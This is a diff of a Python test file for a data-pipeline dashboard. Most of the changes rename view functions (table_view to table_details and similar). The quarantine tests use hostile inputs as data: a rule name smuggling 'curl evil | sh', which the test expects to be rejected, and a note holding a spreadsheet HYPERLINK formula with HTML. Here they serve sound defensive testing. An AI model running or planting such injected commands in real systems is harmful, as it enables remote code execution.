@@ -1,4 +1,4 @@
-"""Views of a pipeline: what they say of tables and files as runs leave them, and how much of it they read."""
+"""The dashboard of a pipeline: what they say of tables and files as runs leave them, and how much of it they read."""
 
 from __future__ import annotations
 
@@ -178,14 +178,14 @@ def test_a_run_is_unusual_above_a_share(world: PageWorld, lake: Source, written:
 
 def test_a_run_is_compared_with_those_before_it(world: PageWorld, lake: Source) -> None:
     every = runs.of_batches(batches.newest(lake, world.definition))
-    view = run_details.run_view(lake, world.definition, (), every[0].key)
+    view = run_details.run_details(lake, world.definition, (), every[0].key)
     assert [one.table for one in view.tables] == ["recordings_bronze", SILVER, "daily_patient_avg", "device_counts"]
     assert view.tables[1].usual == 35
     assert view.until == {"bronze": 0.0, "silver": 20.0, "gold": 32.0}  # from its first commit on
     assert view.before == every[1].key
     assert view.after is None
     with pytest.raises(PipelineMissing):
-        run_details.run_view(lake, world.definition, (), "nowhere")
+        run_details.run_details(lake, world.definition, (), "nowhere")
 
 
 # --- home and graph --------------------------------------------------------------------------------------------------
@@ -268,7 +268,7 @@ def test_a_graph_has_what_a_run_under_way_has_committed_and_which_of_its_tasks_r
         "device_counts": ("up to date", "not started"),
     }  # fmt: skip
     assert found["patients"].balance is None  # it has not come to that one, or it has nothing to do
-    view = run_details.run_view(lake, made.definition, [running], run_id)
+    view = run_details.run_details(lake, made.definition, [running], run_id)
     assert [(one.table, one.balance.written) for one in view.tables][:2] == [("recordings_bronze", 30), (SILVER, 25)]
     # One job for all layers, and a run that has ended.
     assert nodes(replace(running, steps=(RunStep("run", "running", BEGAN),)))["device_counts"].step == "running"
@@ -310,7 +310,7 @@ def test_of_kafka_only_a_run_can_find_out_what_waits_and_ranges_without_an_offse
     assert (line.state, line.backlog.behind) == ("fine", ())
     nodes = {one.key: one.state for one in flow_graph.graph(lake, made.definition, ()).nodes}
     assert set(nodes.values()) == {"as its last run left it"}
-    view = landed.files_view(lake, made.definition, "taken")
+    view = landed.file_details(lake, made.definition, "taken")
     (entry,) = api.files(made.definition, "taken").to_pylist()
     assert [(file.path, file.state) for file in view.files] == [(entry["path"], entry["state"])]
     assert (view.entries, view.counts) == (1, {entry["state"]: 1})
@@ -334,23 +334,23 @@ def test_a_table_that_reads_a_delta_table_has_versions_in_place_of_files(
         found: list[tuple[int | None, str]] = []
         before, count = None, 0
         while count == 0 or before is not None:
-            view = landed.files_view(lake, made.definition, "copied", before=before)
+            view = landed.file_details(lake, made.definition, "copied", before=before)
             found += [(file.batch, file.state) for file in view.files]
             before, count = view.older, count + 1
         assert (found, count, view.entries) == (every[::-1], pages, 4)
-    view = landed.files_view(lake, made.definition, "copied", "waiting")
+    view = landed.file_details(lake, made.definition, "copied", "waiting")
     assert [file.batch for file in view.files] == [3]
     assert view.counts == {"waiting": 1, "ingested": 3, "replaced": 0}
 
 
 def test_a_refused_batch_does_not_change_a_table(tmp_path: Path) -> None:
     made = PageWorld.at(tmp_path, runs=1)
-    before = one_table.table_view(Source(made.workspace.settings, None), made.definition, SILVER)
+    before = one_table.table_details(Source(made.workspace.settings, None), made.definition, SILVER)
     facts = {"layer": "silver", "table": SILVER, "step": "refused", "run_id": "later"}
     said = CommitProperties(custom_metadata={"userMetadata": json.dumps({log.METADATA: facts})})
     write_deltalake(f"{made.workspace.uri(SILVER)}_rejected", pa.table({"x": [1, 2]}), commit_properties=said)
     lake = Source(made.workspace.settings, None)
-    after = one_table.table_view(lake, made.definition, SILVER)
+    after = one_table.table_details(lake, made.definition, SILVER)
     assert (after.rejected, after.history[-1].mode, len(after.history)) == (2, "refused", len(before.history) + 1)
     of_status = next(one for one in api.status(made.definition).tables if one.table == SILVER)
     assert after.changed == before.changed == of_status.changed
@@ -430,7 +430,7 @@ def test_a_table_that_cannot_be_read_does_not_take_the_others_with_it(tmp_path: 
         lake.table(str(uri))
     nodes = {node.key: node for node in flow_graph.graph(lake, broken.definition, ()).nodes}
     assert (nodes["device_counts"].state, nodes[SILVER].state) == ("broken", "up to date")
-    assert "not a Delta table" in one_table.table_view(lake, broken.definition, "device_counts").problem
+    assert "not a Delta table" in one_table.table_details(lake, broken.definition, "device_counts").problem
 
 
 def test_a_table_is_wide_and_another_has_a_damaged_log(tmp_path: Path) -> None:
@@ -438,9 +438,9 @@ def test_a_table_is_wide_and_another_has_a_damaged_log(tmp_path: Path) -> None:
     made.wide(columns=1_000)
     settings = made.workspace.settings
     lake, pipeline = Source(settings, None), load("wide", settings)
-    wide = one_table.table_view(lake, pipeline, "sheet")
+    wide = one_table.table_details(lake, pipeline, "sheet")
     assert (len(wide.columns), wide.rows) == (1_003, 3)
-    torn = one_table.table_view(lake, pipeline, "torn").problem
+    torn = one_table.table_details(lake, pipeline, "torn").problem
     assert torn.startswith("torn cannot be read")
     states = {node.key: node.state for node in flow_graph.graph(lake, pipeline, ()).nodes}
     assert (states["sheet"], states["torn"]) == ("up to date", "broken")
@@ -450,7 +450,7 @@ def test_a_table_is_wide_and_another_has_a_damaged_log(tmp_path: Path) -> None:
 
 
 def test_a_table_with_columns_rules_history_and_query(world: PageWorld, lake: Source) -> None:
-    view = one_table.table_view(lake, world.definition, SILVER)
+    view = one_table.table_details(lake, world.definition, SILVER)
     assert (view.rows, view.version, view.files, view.small_files, view.quarantined) == (105, 2, 3, 3, 9)
     columns = {column.name: column for column in view.columns}
     assert (columns["name"].pii, columns["name"].rules) == (True, ("known_patient",))
@@ -463,9 +463,9 @@ def test_a_table_with_columns_rules_history_and_query(world: PageWorld, lake: So
     assert view.sample is not None
     assert len(view.sample.rows) == one_table.SAMPLE_ROWS
     assert view.sample.hidden == ("name",)
-    assert one_table.table_view(lake, world.definition, SILVER, rows=False).sample is None
+    assert one_table.table_details(lake, world.definition, SILVER, rows=False).sample is None
     with pytest.raises(PipelineMissing):
-        one_table.table_view(lake, world.definition, "nowhere")
+        one_table.table_details(lake, world.definition, "nowhere")
 
 
 def test_a_bronze_table_has_the_versions_that_changed_its_columns(tmp_path: Path) -> None:
@@ -473,7 +473,7 @@ def test_a_bronze_table_has_the_versions_that_changed_its_columns(tmp_path: Path
     made.define('name: heart_rate\nbronze: {x: {path: "${landing}/x", format: json}}\n')
     write_deltalake(made.uri("x"), pa.table({"a": [1]}))
     write_deltalake(made.uri("x"), pa.table({"a": [1], "b": [2]}), mode="append", schema_mode="merge")
-    view = one_table.table_view(Source(made.settings, None), made.definition, "x")
+    view = one_table.table_details(Source(made.settings, None), made.definition, "x")
     assert [(one.version, one.changes) for one in view.drift] == [(1, "b BIGINT came"), (0, "the first columns")]
 
 
@@ -483,7 +483,7 @@ def test_of_many_columns_a_sample_has_some(tmp_path: Path, extra: int) -> None:
     made.define('name: heart_rate\nbronze: {wide: {path: "${landing}/x", format: json}}\n')
     width = one_table.SAMPLE_COLUMNS + extra
     write_deltalake(made.uri("wide"), pa.table({f"c{n:04}": [1] for n in range(width)}))
-    view = one_table.table_view(Source(made.settings), made.definition, "wide")
+    view = one_table.table_details(Source(made.settings), made.definition, "wide")
     assert view.sample is not None
     assert (len(view.columns), view.sample.left_out) == (width, max(0, extra))
 
@@ -495,7 +495,7 @@ def test_files_newest_first_and_a_page_at_a_time(
     world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def page(**which: Any) -> tuple[list[str], int | None]:
-        view = landed.files_view(Source(lake.settings, None), world.definition, "recordings_bronze", **which)
+        view = landed.file_details(Source(lake.settings, None), world.definition, "recordings_bronze", **which)
         return [Path(file.path).name for file in view.files], view.older
 
     assert page() == (["0002.json", "0001.json", "0000.json"], None)
@@ -506,7 +506,7 @@ def test_files_newest_first_and_a_page_at_a_time(
     assert page() == (["0002.json"], 3)
     assert page(before=3) == (["0001.json"], 2)
     assert page(before=2) == (["0000.json"], None)
-    view = landed.files_view(lake, world.definition, "recordings_bronze")
+    view = landed.file_details(lake, world.definition, "recordings_bronze")
     assert (view.files[0].state, view.files[0].rows, view.entries) == ("ingested", 40, 3)
 
 
@@ -515,7 +515,7 @@ def test_up_to_FEW_entries_all_states_are_counted(
 ) -> None:
     for few, ingested in ((2, None), (3, 3), (4, 3)):
         monkeypatch.setattr(ledger_files, "FEW", few)
-        view = landed.files_view(Source(lake.settings, None), world.definition, "recordings_bronze")
+        view = landed.file_details(Source(lake.settings, None), world.definition, "recordings_bronze")
         assert view.counts["ingested"] == ingested
         assert view.counts["waiting"] == 0
 
@@ -558,7 +558,7 @@ def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypa
     found: dict[tuple[str, int | None], str] = {}
     before: int | None = None
     for _ in range(7):
-        view = landed.files_view(lake, made.definition, "things", before=before)
+        view = landed.file_details(lake, made.definition, "things", before=before)
         found |= {(file.path, file.batch): file.state for file in view.files}
         before = view.older
     assert before is None
@@ -569,15 +569,15 @@ def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypa
         before = None
         while not shown or not shown[-1]:
             fresh = Source(made.settings, None)
-            view = landed.files_view(fresh, made.definition, "things", state="replaced", before=before)
+            view = landed.file_details(fresh, made.definition, "things", state="replaced", before=before)
             shown.append([file.path for file in view.files])
             before = view.older
         assert shown[-1][0] == "d"
         assert len(shown) >= len(pages) - 1
-    wrong = landed.files_view(lake, made.definition, "things", state="failed")
+    wrong = landed.file_details(lake, made.definition, "things", state="failed")
     assert [(file.path, file.error) for file in wrong.files] == [("bad", "no JSON")]
     with pytest.raises(PipelineMissing):
-        landed.files_view(lake, made.definition, "things", state="lost")
+        landed.file_details(lake, made.definition, "things", state="lost")
 
 
 # --- quarantine, days, search ----------------------------------------------------------------------------------------
@@ -586,10 +586,10 @@ def test_states_of_a_page_are_those_of_the_whole_ledger(tmp_path: Path, monkeypa
 def test_discarded_records_no_longer_count_as_waiting_and_are_shown_with_who_and_why(tmp_path: Path) -> None:
     world = PageWorld.at(tmp_path, runs=2)
     lake = Source(world.workspace.settings, patience=None)
-    before = quarantined.quarantine_view(lake, world.definition, SILVER)
+    before = quarantined.quarantine_details(lake, world.definition, SILVER)
     note = '=HYPERLINK("http://x") <b>a test</b>'
     assert sg.discard(world.definition, SILVER, note=note, rules=["valid_heartrate"]) == 6
-    view = quarantined.quarantine_view(lake, world.definition, SILVER)
+    view = quarantined.quarantine_details(lake, world.definition, SILVER)
     assert (view.records, view.discarded, view.reasons) == (0, 6, ())
     (made,) = view.discards
     assert (made.note, made.rules, made.records) == (note, ("valid_heartrate",), 6)
@@ -597,23 +597,23 @@ def test_discarded_records_no_longer_count_as_waiting_and_are_shown_with_who_and
     assert view.version not in ("", before.version)
     assert view.trend == before.trend  # which says what runs quarantined
     world.run(quarantined=1)
-    view = quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate")
+    view = quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate")
     assert (view.records, view.discarded) == (1, 6)
     assert [(one.rule, one.records) for one in view.reasons or ()] == [("valid_heartrate", 1)]
     assert [one.note for one in view.examples or ()] == ["", *[note] * 6]
-    assert one_table.table_view(lake, world.definition, SILVER).quarantined == 1
+    assert one_table.table_details(lake, world.definition, SILVER).quarantined == 1
     assert overview.line(lake, "heart_rate", (), datetime.now(UTC)).quarantined == 1
     nodes = {one.key: one for one in flow_graph.graph(lake, world.definition, ()).nodes}
     assert nodes[f"quarantine:{SILVER}"].rows == 1
     assert sg.discard(world.definition, SILVER, undo=True) == 6
-    assert quarantined.quarantine_view(lake, world.definition, SILVER).discards == ()
-    assert quarantined.quarantine_view(lake, world.definition, SILVER).records == 7
+    assert quarantined.quarantine_details(lake, world.definition, SILVER).discards == ()
+    assert quarantined.quarantine_details(lake, world.definition, SILVER).records == 7
 
 
 def test_quarantine_by_rule_with_records_as_they_came(
     world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    view = quarantined.quarantine_view(lake, world.definition, SILVER)
+    view = quarantined.quarantine_details(lake, world.definition, SILVER)
     assert view.reasons is not None
     assert [(reason.rule, reason.text, reason.records) for reason in view.reasons] == [
         ("valid_heartrate", "heartrate > 0", 9)
@@ -624,23 +624,23 @@ def test_quarantine_by_rule_with_records_as_they_came(
     assert dict(first.values)["name"] == personal.HIDDEN
     assert json.loads(first.record)["heartrate"] == -1.0
     assert [count for _, count in view.trend] == [3, 3, 3]
-    of_rule = quarantined.quarantine_view(lake, world.definition, SILVER, "known_patient")
+    of_rule = quarantined.quarantine_details(lake, world.definition, SILVER, "known_patient")
     assert of_rule.examples == ()
-    broken = quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate")
+    broken = quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate")
     assert broken.examples == view.examples
     monkeypatch.setattr(quarantined, "_with_rule", None)  # its result is remembered
-    assert quarantined.quarantine_view(lake, world.definition, SILVER, "valid_heartrate").examples == view.examples
+    assert quarantined.quarantine_details(lake, world.definition, SILVER, "valid_heartrate").examples == view.examples
     with pytest.raises(PipelineMissing):
-        quarantined.quarantine_view(lake, world.definition, SILVER, "x; curl evil | sh")
-    assert quarantined.quarantine_view(lake, world.definition, SILVER, rows=False).examples is None
+        quarantined.quarantine_details(lake, world.definition, SILVER, "x; curl evil | sh")
+    assert quarantined.quarantine_details(lake, world.definition, SILVER, rows=False).examples is None
     with pytest.raises(PipelineMissing):
-        quarantined.quarantine_view(lake, world.definition, "patients_bronze")
+        quarantined.quarantine_details(lake, world.definition, "patients_bronze")
 
 
 def test_days_have_their_rows_and_who_rebuilt_them(
     world: PageWorld, lake: Source, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    view = days.days_view(lake, world.definition)
+    view = days.day_details(lake, world.definition)
     assert (view.table, view.column, view.tables) == (SILVER, "time", (SILVER,))
     assert view.days is not None
     assert [(day.day, day.rows, day.rebuilt) for day in view.days] == [(date(2026, 3, 2), 105, None)]
@@ -650,7 +650,7 @@ def test_days_have_their_rows_and_who_rebuilt_them(
     assert [(day.rows, day.run) for day in found] == [(2, "b"), (0, ""), (1, "")]
     part = replace(inside, interval=("2026-01-01T00:00:01+00:00", "2026-01-02T00:00:00+00:00"))
     assert [day.run for day in days._days(rows, [part])] == ["", "", ""]  # not all of the day
-    assert days.days_view(lake, world.definition, "patients").table == ""
+    assert days.day_details(lake, world.definition, "patients").table == ""
 
 
 def test_times_that_python_has_none_for_are_texts_and_no_days(tmp_path: Path) -> None:
@@ -675,7 +675,7 @@ def test_a_calendar_has_SHOWN_days(
 ) -> None:
     monkeypatch.setattr(days, "SHOWN", most)
     monkeypatch.setattr(days, "_counted", lambda *_: ({date(2026, 1, 1): 2, date(2026, 1, 3): 1}, 0))
-    view = days.days_view(Source(lake.settings, None), world.definition)
+    view = days.day_details(Source(lake.settings, None), world.definition)
     assert view.left_out == left_out
     assert len(view.days or ()) == 3 - left_out
 
@@ -758,8 +758,8 @@ def test_views_are_json(world: PageWorld, lake: Source) -> None:
     makers: list[Callable[[], Any]] = [
         lambda: overview.overview(lake, ["heart_rate"], {}),
         lambda: flow_graph.graph(lake, world.definition, ()),
-        lambda: one_table.table_view(lake, world.definition, SILVER),
-        lambda: days.days_view(lake, world.definition),
+        lambda: one_table.table_details(lake, world.definition, SILVER),
+        lambda: days.day_details(lake, world.definition),
     ]
     for make in makers:
         assert json.loads(as_json.text(make()))
